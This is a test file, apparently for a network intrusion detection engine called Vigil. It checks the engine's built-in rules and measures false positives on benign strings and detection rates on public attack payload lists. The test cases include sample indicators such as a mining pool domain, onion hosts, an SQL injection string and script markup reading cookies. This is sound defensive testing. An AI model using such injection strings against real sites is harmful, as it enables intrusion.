    c(9100250, false, 'onion lookalike', { kind: 'dns', name: 'onion.example.com' }),
    c(9100251, true, 'mining pool', { kind: 'dns', name: 'xmr-eu1.nanopool.org' }),
    c(9100251, false, 'pool lookalike', { kind: 'dns', name: 'nanopool.org.example.net' }),
    c(9100252, true, 'onion host', http({ target: '/', headers: { Host: 'abcdefghij234567.onion' } })),
    c(9100252, false, 'onion lookalike host', http({ target: '/', headers: { Host: 'onion.example' } })),
    // Responses carrying markup are not attacks (web rules are request-side).
    c(
      9100005,
      false,
      'page with handlers and links',
      http(
        { target: '/' },
        response(
          '<html><body onload="init()"><script>var a=document.cookie;</script><a href="javascript:void(0)" onclick="go()">x</a>' +
            '<img src=x onerror="fix(this)"><iframe src="/embed"></iframe></body></html>',
        ),
      ),
    ),
    c(
      9100002,
      false,
      'page with SQL text',
      http({ target: '/help' }, response("<p>' OR '1'='1 is a classic; UNION SELECT a,b FROM t--</p>")),
    ),
  );
  return out;
}

// ---- the rule file itself --------------------------------------------------------------------------

const TYPES = new Set([
  'sql_injection',
  'xss',
  'command_injection',
  'path_traversal',
  'malware',
  'recon',
  'port_scan',
  'brute_force',
  'dos',
  'data_exfiltration',
  'policy',
]);

interface RuleInfo {
  sid: number;
  type: string;
  mitre: string;
  text: string;
}

function builtinRules(): RuleInfo[] {
  const out: RuleInfo[] = [];
  for (const line of fs.readFileSync(RULES, 'utf8').split('\n')) {
    if (!line.startsWith('alert ')) continue;
    const sid = Number(/[(; ]sid:\s*(\d+)\s*;/.exec(line)?.[1]);
    const m = /metadata:\s*([^;]*);/.exec(line)?.[1] ?? '';
    const kv = new Map(m.split(',').map((p) => p.trim().split(/\s+/, 2) as [string, string]));
    out.push({ sid, type: kv.get('vigil_type') ?? '', mitre: kv.get('mitre_technique_id') ?? '', text: line });
  }
  return out;
}

test('built-in rules: every rule loads and names its type, technique, classtype and rev', async () => {
  const rules = builtinRules();
  assert.ok(rules.length >= 90, `${rules.length} rules`);
  const sids = new Set<number>();
  for (const r of rules) {
    assert.ok(r.sid >= 9100000 && r.sid <= 9199999, `sid ${r.sid} outside Vigil's range`);
    assert.ok(!sids.has(r.sid), `duplicate sid ${r.sid}`);
    sids.add(r.sid);
    assert.ok(TYPES.has(r.type), `sid ${r.sid}: vigil_type "${r.type}"`);
    assert.match(r.mitre, /^T\d{4}(?:\.\d{3})?$/, `sid ${r.sid}: mitre_technique_id`);
    assert.match(r.text, /classtype:[a-z-]+;/, `sid ${r.sid}: classtype`);
    assert.match(r.text, /rev:\d+;/, `sid ${r.sid}: rev`);
    if (r.text.includes('msg:"VIGIL WEB '))
      assert.match(r.text, /flow:established,to_server;/, `sid ${r.sid}: web-attack rules are request-side`);
  }
  // Loaded means compiled too (rules check only parses): analyze reports loaded and skipped.
  const dir = tempDir();
  const pcap = path.join(dir, 'empty.pcap');
  new PcapWriter().write(pcap);
  const r = await runCli(['analyze', pcap, '--json', '--workers', '1', '--no-ml']);
  assert.equal(r.code, 0, r.stderr);
  assert.deepEqual((JSON.parse(r.stdout) as { rules: unknown }).rules, { loaded: rules.length, skipped: 0 });
  fs.rmSync(dir, { recursive: true, force: true });
});

test('built-in rules: each rule fires on its positive cases and not on its near-miss negatives', async () => {
  const cases = [...webCases(), ...otherCases()];
  const rules = builtinRules();
  const typeOf = new Map(rules.map((r) => [r.sid, r.type]));
  for (const r of rules) {
    assert.ok(
      cases.some((c) => c.sid === r.sid && c.positive),
      `sid ${r.sid} has no positive case`,
    );
    assert.ok(
      cases.some((c) => c.sid === r.sid && !c.positive),
      `sid ${r.sid} has no negative case`,
    );
  }
  const dir = tempDir();
  const got = await analyse(
    cases.map((c) => c.session),
    dir,
    'cases',
  );
  const problems: string[] = [];
  cases.forEach((c, i) => {
    const alerts = got.get(i) ?? [];
    const sids = alerts.map((a) => a.sid);
    if (c.positive) {
      const hit = alerts.find((a) => a.sid === c.sid);
      if (hit === undefined) problems.push(`sid ${c.sid} missed ${c.what} (got ${sids.join(',') || 'none'})`);
      else if (hit.type !== typeOf.get(c.sid) || hit.mitre === undefined)
        problems.push(`sid ${c.sid} on ${c.what}: EVE type ${hit.type} mitre ${hit.mitre}`);
    } else if (alerts.length > 0) problems.push(`negative for sid ${c.sid} alerted: ${c.what} -> ${sids.join(',')}`);
  });
  fs.rmSync(dir, { recursive: true, force: true });
  assert.deepEqual(problems, []);
});

// ---- payload lists -------------------------------------------------------------------------------

function listLines(file: string, hashComments: boolean): string[] {
  return fs
    .readFileSync(file, 'latin1')
    .split('\n')
    .map((l) => l.replace(/\r$/, ''))
    .filter((l) => l.trim() !== '' && !(hashComments && l.startsWith('#')));
}

/**
 * blns.txt by section. Its README warns the list is not all benign: the injection sections are
 * attacks (and are left out of the benign set).
 */
const BLNS_ATTACK_SECTIONS = new Set([
  'Script Injection',
  'SQL Injection',
  'Server Code Injection',
  'Command Injection (Ruby)',
  'XXE Injection (XML)',
  'File Inclusion',
  'Known CVEs and Vulnerabilities',
  'jinja2 injection',
]);

function blnsBenign(): string[] {
  const lines = fs.readFileSync(path.join(PAYLOADS, 'naughty-strings', 'blns.txt'), 'utf8').split('\n');
  const out: string[] = [];
  let section = '';
  for (let i = 0; i < lines.length; i++) {
    const l = lines[i]!;
    if (l.startsWith('#')) {
      // A section title is a comment line followed by an empty comment line.
      if (!/^#\s*$/.test(l) && /^#\s*$/.test(lines[i + 1] ?? '')) section = l.replace(/^#\s*/, '').trim();
      continue;
    }
    if (l !== '' && !BLNS_ATTACK_SECTIONS.has(section)) out.push(l);
  }
  return out;
}

/** Benign phrases a site search sees that look like SQL, markup or shell to a naive matcher. */
const BENIGN_PHRASES = [
  'union station',
  'select a plan',
  'drop shipping',
  "o'reilly books",
  "rock 'n' roll",
  '1=1 math puzzle',
  'insert coin',
  '--verbose flag docs',
  '--version',
  '--help',
  'javascript: the good parts',
  'sleep (8 hours)',
  'Paris; more info',
  "Joe's #1 fan",
  'AT&T; T-Mobile',
  'C:\\Users\\Public',
  '<3',
  '5 > 3 and 2 < 4',
];

test(
  'built-in rules: no alert on benign strings as query parameter, form body or cookie',
  { skip: !havePayloads && 'payload lists missing', timeout: 10 * 60_000 },
  async () => {
    // libinjection's lines are already URL-encoded user input; the others are raw text.
    const values: { v: string; encoded: boolean; from: string }[] = [
      ...listLines(path.join(PAYLOADS, 'libinjection', 'false_positives.txt'), true).map((v) => ({
        v: requestSafe(v),
        encoded: true,
        from: 'libinjection/false_positives.txt',
      })),
      ...blnsBenign().map((v) => ({ v, encoded: false, from: 'naughty-strings/blns.txt' })),
      ...BENIGN_PHRASES.map((v) => ({ v, encoded: false, from: 'phrases' })),
    ];
    const places: Place[] = ['query', 'body', 'cookie'];
    const sessions: Session[] = [];
    const what: string[] = [];
    for (const x of values)
      for (const p of places) {
        sessions.push(placed(p, x.v, x.encoded));
        what.push(`${x.from} as ${p}: ${JSON.stringify(x.v).slice(0, 120)}`);
      }
    const dir = tempDir();
    const got = await analyse(sessions, dir, 'benign');
    fs.rmSync(dir, { recursive: true, force: true });
    const fired = [...got].map(([i, a]) => `${what[i]} -> ${a.map((x) => x.sid).join(',')}`);
    assert.ok(values.length > 600, `${values.length} benign strings`);
    assert.deepEqual(fired, []);
  },
);

interface AttackList {
  label: string;
  type: string;
  files: string[];
  /** Lines are URL-encoded already (libinjection) or carry their own encodings (traversal lists). */
  encoded: boolean;
}

function attackLists(): AttackList[] {
  const dirFiles = (d: string, re: RegExp = /./): string[] =>
    fs
      .readdirSync(path.join(PAYLOADS, d))
      .filter((f) => re.test(f))
      .sort()
      .map((f) => path.join(PAYLOADS, d, f));
  return [
    { label: 'libinjection sqli-*', type: 'sql_injection', files: dirFiles('libinjection', /^sqli-/), encoded: true },
    { label: 'libinjection xss-*', type: 'xss', files: dirFiles('libinjection', /^xss-/), encoded: true },
    {
      label: 'PayloadsAllTheThings sql-injection',
      type: 'sql_injection',
      files: dirFiles('payloadsallthethings/sql-injection'),
      encoded: false,
    },
    {
      label: 'PayloadsAllTheThings xss-injection',
      type: 'xss',
      files: dirFiles('payloadsallthethings/xss-injection'),
      encoded: false,
    },
    {
      label: 'PayloadsAllTheThings command-injection',
      type: 'command_injection',
      files: dirFiles('payloadsallthethings/command-injection'),
      encoded: false,
    },
    {
      label: 'PayloadsAllTheThings directory-traversal',
      type: 'path_traversal',
      files: dirFiles('payloadsallthethings/directory-traversal'),
      encoded: true,
    },
  ];
}

test(
  'built-in rules: detection rate on the attack payload lists (measured, printed)',
  { skip: !havePayloads && 'payload lists missing', timeout: 20 * 60_000 },
  async (t) => {
    const lists = attackLists();
    const sessions: Session[] = [];
    const owner: number[] = [];
    lists.forEach((l, k) => {
      for (const f of l.files)
        for (const line of listLines(f, l.encoded && f.includes('libinjection'))) {
          // Traversal lists leave the file name as a placeholder: a neutral name, so that only
          // the traversal itself can be detected (not a sensitive file name).
          const v = line.replace(/\{FILE\}/g, 'secret.txt');
          sessions.push(placed('query', l.encoded ? requestSafe(v) : v, l.encoded));
          owner.push(k);
        }
    });
    const dir = tempDir();
    const got = await analyse(sessions, dir, 'attacks');
    fs.rmSync(dir, { recursive: true, force: true });
    const rows = lists.map(() => ({ total: 0, any: 0, typed: 0 }));
    owner.forEach((k, i) => {
      const row = rows[k]!;
      row.total++;
      const a = got.get(i) ?? [];
      if (a.length > 0) row.any++;
      if (a.some((x) => x.type === lists[k]!.type)) row.typed++;
    });
    t.diagnostic('payload list (as query parameter)          payloads  detected  with the right type');
    rows.forEach((r, k) => {
      const pct = (n: number): string => `${((100 * n) / Math.max(1, r.total)).toFixed(1)} %`;
      t.diagnostic(
        `${lists[k]!.label.padEnd(42)} ${String(r.total).padStart(8)}  ${pct(r.any).padStart(8)}  ${pct(r.typed).padStart(8)}`,
      );
    });
    // Not a tuned threshold: the lists must be read and the engine must detect something at all.
    assert.ok(rows.every((r) => r.total > 0 && r.any > 0));
  },
);
